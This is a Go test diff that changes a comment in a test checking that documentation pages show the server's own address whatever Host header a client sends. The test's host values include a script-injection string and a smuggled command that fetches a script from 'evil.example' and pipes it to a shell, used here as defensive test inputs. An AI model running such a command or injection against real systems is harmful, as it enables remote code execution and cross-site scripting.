@@ -180,7 +180,7 @@ func TestPagesShowTheAddressOfTheServer(t *testing.T) {
 	for _, host := range []string{"capi.internal:8080", "evil.example", `x"><script>alert(1)</script>`, "x;curl evil.example|sh"} {
 		for _, path := range []string{"/docs/quickstart", "/docs/quickstart.md", "/llms-full.txt"} {
 			r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, path, nil)
-			r.Host = host // chosen by whoever sends the request
+			r.Host = host // chosen by the client
 			w := httptest.NewRecorder()
 			h.ServeHTTP(w, r)
 			has(t, w.Body.String(), docsite.Host+"/api/v1/companies/search")
